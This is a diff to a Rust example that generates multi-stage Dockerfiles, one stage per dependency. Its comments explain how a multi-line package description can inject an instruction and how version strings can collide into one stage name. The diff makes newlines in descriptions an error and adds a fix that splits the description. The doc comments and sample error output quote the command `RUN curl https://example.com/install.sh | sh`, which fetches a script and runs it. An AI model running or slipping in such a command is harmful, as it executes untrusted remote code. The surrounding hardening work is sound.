@@ -1,25 +1,41 @@
-//! A stage for each dependency of a program: what builds of many packages do, so that each is cached by itself.
+//! A stage for each dependency of a program: what builds of many packages do, so that each is
+//! cached by itself.
 //!
-//! `cargo run --all-features --example dependencies` prints the file of the packages below, `-- 1000` one of a thousand.
+//! `cargo run --all-features --example dependencies` prints the file of the packages below,
+//! `-- 1000` one of a thousand.
 //!
 //! # Why not with strings?
 //!
-//! A stage is written for each package, named after it, with what the package says of itself as a comment:
+//! A stage is written for each package, named after it, with what the package says of itself as a
+//! comment:
 //!
 //! ```ignore
 //! let name = format!("{}-{}", package.name, package.version).replace(['.', '+'], "-");
 //! out += &format!("# {}\nFROM rust:1.90 AS {name}\n", package.description);
 //! ```
 //!
-//! - A description of two lines ends the comment: its second line is an instruction, whatever it says.
-//!   Below it is `RUN curl https://example.com/install.sh | sh`.
-//! - The versions `1.0.0+1` and `1.0.0-1` get the same name, `zip-1-0-0-1`. Docker builds the file: every reference means
-//!   the last stage of that name, and one of the packages is linked in place of the other.
+//! - A description of two lines ends the comment: its second line is an instruction, whatever it
+//!   says. Below it is `RUN curl https://example.com/install.sh | sh`.
+//! - The versions `1.0.0+1` and `1.0.0-1` get the same name, `zip-1-0-0-1`. Docker builds the file:
+//!   every reference means the last stage of that name, and one of the packages is linked in place
+//!   of the other.
 //! - A name that is misspelt once is an image to Docker, which it pulls from a registry.
 //!
-//! Here a description is a comment on as many lines as it needs, and a stage is referred to by the handle that
-//! [`Dockerfile::stage`] returns. Two stages of one name are an error, so the collision is found by the first test that
-//! has it, and [`Names`] gives the second one a number:
+//! Here a newline in a description is an error, so the program writes the first line as the
+//! description and the others as comments:
+//!
+//! ```text
+//! error[unencodable-text]: the description of `zip-1-0-0-1` cannot hold a newline
+//!  --> Dockerfile:1:44
+//!   |
+//! 1 | # zip-1-0-0-1 Archives, before the release.\u{a}RUN curl https://example.com/install.sh | sh
+//!   |                                            ^^^^^ newline
+//!   = help: a description is one line: put the rest into a comment
+//! ```
+//!
+//! A stage is referred to by the handle that [`Dockerfile::stage`] returns. Two stages of one name
+//! are an error too, so the collision is found by the first test that has it, and [`Names`] gives
+//! the second one a number:
 //!
 //! ```text
 //! error[duplicate-stage-name]: two stages are named `zip-1-0-0-1`
@@ -109,7 +125,8 @@ pub fn spelled(package: &Package) -> String {
     text.chars().map(letter).collect()
 }
 
-/// The file that builds all packages, with the last one as the program. `name`: the name of a package's stage.
+/// The file that builds all packages, with the last one as the program. `name`: the name of a
+/// package's stage.
 pub fn dockerfile(
     packages: &[Package],
     mut name: impl FnMut(&Package) -> String,
@@ -139,8 +156,14 @@ fn stage(package: &Package, dependencies: &[&StageName]) -> Stage {
         let target = format!("/deps/{dependency}");
         run.mount(Mount::bind(target).with_from(*dependency).source("/out"))
     });
+    // A description is one line, which `docker build --call=targets` lists.
+    let (summary, more) = match package.description.split_once('\n') {
+        Some((summary, more)) => (summary, Some(more)),
+        None => (package.description.as_str(), None),
+    };
     Stage::new("rust:1.90")
-        .header(&package.description)
+        .when_some(more, |stage, more| stage.header(more))
+        .describe(summary)
         .instruction(Add::new(archive, "/src/package.tar.gz").checksum(checksum))
         .run(build)
 }
